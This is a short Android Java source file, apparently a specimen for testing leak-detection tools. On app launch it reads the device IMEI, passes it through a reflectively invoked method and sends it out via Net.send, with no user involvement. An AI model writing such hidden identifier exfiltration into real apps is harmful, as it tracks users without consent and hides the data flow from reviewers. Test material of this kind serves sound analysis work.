package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;
import java.lang.reflect.Method;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        try {
            Method method = Class.forName("com.example.specimen.Wrap").getMethod("same", String.class);
            Net.send((String) method.invoke(null, Imei.read(this)));
        } catch (ReflectiveOperationException error) {
            finish();
        }
    }
}
